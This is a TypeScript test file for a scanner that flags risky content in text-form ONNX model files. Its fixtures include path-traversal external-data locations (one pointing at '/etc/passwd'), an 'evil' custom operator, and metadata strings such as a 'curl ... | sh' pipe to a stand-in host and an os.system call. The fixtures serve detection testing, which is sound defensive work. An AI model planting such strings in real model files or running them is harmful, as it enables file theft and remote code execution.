import assert from 'node:assert/strict';
import { scanBytes, verdicts } from '../scanBytes';

const textproto = (graph: string, more = '') => `ir_version: 8
producer_name: "test"
graph {
  node { input: "x" output: "y" op_type: "Relu" }
  ${graph}
  name: "g"
}
${more}
opset_import { domain: "" version: 17 }
`;
const json = (graph: object, more: object = {}) =>
  JSON.stringify({
    irVersion: '8',
    producerName: 'test',
    graph: { node: [{ input: ['x'], output: ['y'], opType: 'Relu' }], name: 'g', ...graph },
    opsetImport: [{ version: '17' }],
    ...more,
  });
const syntax = (body: string, more = '') => `<ir_version: 8, opset_import: ["" : 17], producer_name: "test">
agraph (float[N, 128] X) => (float[N] Y)
<float[3] W = {1.0, 2.0, 3.0}>
{
  ${body}
  Y = Relu (X)
}
${more}
`;
const judge = async (name: string, text: string) => verdicts(await scanBytes(name, text));

describe('ONNX as text', () => {
  it('is known by its content, clean when it is, and described as the binary form', async () => {
    const numbers = 'initializer { dims: [3] data_type: 1 name: "w" float_data: [\n 1.0,\n 2.0, 3e-1] }';
    for (const [format, name, text] of [
      ['onnx-textproto', 'm.onnx.textproto', textproto(numbers)],
      ['onnx-textproto', 'm.txt', `# a comment\n${textproto(numbers)}`],
      [
        'onnx-json',
        'm.onnxjson',
        json({ initializer: [{ dims: ['3'], dataType: 1, name: 'w', floatData: [1, 2, 'NaN'] }] }),
      ],
      ['onnx-json', 'm.json', json({ initializer: [{ dims: ['3'], data_type: 1, name: 'w', rawData: 'AAAA' }] })],
    ] as const) {
      const report = await scanBytes(name, text);
      assert.ok(report.format.startsWith(format), report.format);
      assert.equal(report.status, 'scanned');
      assert.deepEqual(verdicts(report), []);
      assert.deepEqual(report.description?.operators, { Relu: 1 });
      assert.deepEqual(report.description?.tensors, [{ name: 'w', dtype: 'float32', shape: [3] }]);
      assert.equal(report.description?.properties?.opsets, 'ai.onnx 17');
    }
    const report = await scanBytes('m.onnxtxt', syntax('A = ai.onnx.ml.Normalizer <norm = "MAX"> (X)'));
    assert.deepEqual(verdicts(report), []);
    assert.equal(report.format, 'onnx-syntax');
    assert.deepEqual(report.description?.operators, { 'ai.onnx.ml::Normalizer': 1, Relu: 1 });
  });

  it('external data outside of the folder, in every form and place', async () => {
    const outside = ['high onnx/external-data'];
    const tensor =
      'dims: 3 data_type: 1 name: "w" external_data { key: "location" value: "../../w" } data_location: EXTERNAL';
    assert.deepEqual(await judge('m.textproto', textproto(`initializer { ${tensor} }`)), outside);
    assert.deepEqual(await judge('m.textproto', textproto(`initializer < ${tensor} >`)), outside);
    assert.deepEqual(await judge('m.textproto', textproto(`initializer: [{ name: "a" }, { ${tensor} }]`)), outside);
    const escaped = tensor.replace('../../w', '\\056./\\x2e.' + '/w" "x');
    assert.deepEqual(await judge('m.textproto', textproto(`initializer { ${escaped} }`)), outside);
    const inner = `node { op_type: "Constant" output: "c" attribute { name: "value" t { ${tensor} } } }`;
    assert.deepEqual(await judge('m.textproto', textproto(inner)), outside);
    const functions = `functions { name: "F" domain: "l" ${inner} }`;
    assert.deepEqual(await judge('m.textproto', textproto('', functions)), outside);
    const external = { name: 'w', dataLocation: 'EXTERNAL', externalData: [{ key: 'location', value: '/etc/passwd' }] };
    assert.deepEqual(await judge('m.onnxjson', json({ initializer: [external] })), outside);
    assert.deepEqual(await judge('m.onnxjson', json({ sparseInitializer: [{ values: external }] })), outside);
    const subGraph = { opType: 'If', attribute: [{ name: 'then_branch', g: { initializer: [external] } }] };
    assert.deepEqual(await judge('m.onnxjson', json({ node: [subGraph] })), outside);
    const snake = json({ initializer: [external] }).replace('externalData', 'external_data');
    assert.deepEqual(await judge('m.json', snake.replace('"location"', '"\\u006cocation"')), outside);
    const given = syntax('').replace('= {1.0, 2.0, 3.0}', '= ["location": "../w", "offset": "0"]');
    assert.deepEqual(await judge('m.onnxtxt', given), outside);
    const beside = given.replace('../w', 'w.data');
    assert.deepEqual(await judge('m.onnxtxt', beside), []);
  });

  it('operators that are foreign or call Python, and functions that the model brings itself', async () => {
    const custom = ['medium onnx/custom-operator'];
    const node = (op: string, domain: string) => `node { op_type: "${op}" domain: "${domain}" output: "z" }`;
    assert.deepEqual(await judge('m.textproto', textproto(node('Run', 'evil'))), custom);
    assert.deepEqual(await judge('m.textproto', textproto(node('PyOp', 'x'))), ['high onnx/python-operator']);
    const own = `functions { name: "F" domain: "local" ${node('Relu', '')} }`;
    assert.deepEqual(await judge('m.textproto', textproto(node('F', 'local'), own)), []);
    assert.deepEqual(await judge('m.onnxjson', json({ node: [{ opType: 'Run', domain: 'evil' }] })), custom);
    assert.deepEqual(await judge('m.onnxtxt', syntax('Z = evil.ops.Run <alpha = 1.5> (X)')), custom);
    assert.deepEqual(await judge('m.onnxtxt', syntax('Z = evil.ops.Run (X)')), custom);
    const f = '<domain: "local", opset_import: ["" : 17]>\nF (x) => (y) { y = Softmax(x) }';
    assert.deepEqual(await judge('m.onnxtxt', syntax('Z = local.F (X)', f)), []);
    const branches =
      'C = If (X) <then_branch = g1 () => (float[N] y) { y = evil.Run (X) }, else_branch = g2 () => (float z) { z = Abs(X) }>';
    assert.deepEqual(await judge('m.onnxtxt', syntax(branches)), custom);
  });

  it('commands in metadata and strings', async () => {
    const code = ['medium onnx/metadata-code'];
    const entry = 'metadata_props { key: "note" value: "curl http://x.test/a | sh" }';
    assert.deepEqual(await judge('m.textproto', textproto('', entry)), code);
    assert.deepEqual(await judge('m.textproto', textproto(`node { op_type: "Abs" ${entry} }`)), code);
    assert.deepEqual(await judge('m.textproto', textproto(`initializer { name: "w" ${entry} }`)), code);
    assert.deepEqual(await judge('m.textproto', textproto(`value_info { name: "w" ${entry} }`)), code);
    const trace =
      'metadata_props { key: "pkg.torch.onnx.stack_trace" value: "File \\"a.py\\", line 3, in forward\\n  x = eval(y)" }';
    assert.deepEqual(await judge('m.textproto', textproto(`node { op_type: "Abs" ${trace} }`)), []);
    const told = syntax('').replace('"test"', '"x", metadata_props: ["a": "os.system(\'id\')"]');
    assert.deepEqual(await judge('m.onnxtxt', told), code);
  });

  it('what breaks off is said, and what came before is judged', async () => {
    const tensor = 'initializer { name: "w" external_data { key: "location" value: "../w" } }';
    for (const [name, text] of [
      ['m.textproto', textproto(tensor).replace('name: "g"', 'name "g"')],
      ['m.onnxjson', json({ initializer: [{ externalData: [{ key: 'location', value: '../w' }] }] }).slice(0, -30)],
      ['m.onnxtxt', `${syntax('').replace('{1.0, 2.0, 3.0}', '["location": "../w"]')}"`],
    ] as const) {
      const report = await scanBytes(name, text);
      assert.equal(report.status, 'partial', name);
      assert.deepEqual(verdicts(report), ['high onnx/external-data', 'medium onnx/malformed'], name);
    }
  });

  it('texts that only look alike are none', async () => {
    for (const [name, text] of [
      ['config.pbtxt', 'name: "m"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\n'],
      ['graph.pbtxt', 'node { name: "a" op: "Placeholder" }\nversions { producer: 1 }\n'],
      ['a.json', '{"graph": {"nodes": []}, "version": 1}'],
      ['a.txt', '<ir_version> is a field of ONNX\n'],
    ] as const)
      assert.ok(!(await scanBytes(name, text)).format.includes('onnx'), name);
  });

  it('a megabyte of open brackets is read in one pass', async () => {
    for (const name of ['m.onnxtxt', 'm.textproto'])
      assert.notEqual((await scanBytes(name, `<ir_version: 8>\n${'(['.repeat(2 ** 19)}`)).status, 'failed');
    const deep = `{"irVersion":"8","graph":${'{"node":[{"attribute":[{"g":'.repeat(1000)}`;
    assert.equal((await scanBytes('m.onnxjson', deep)).status, 'partial');
  });
});
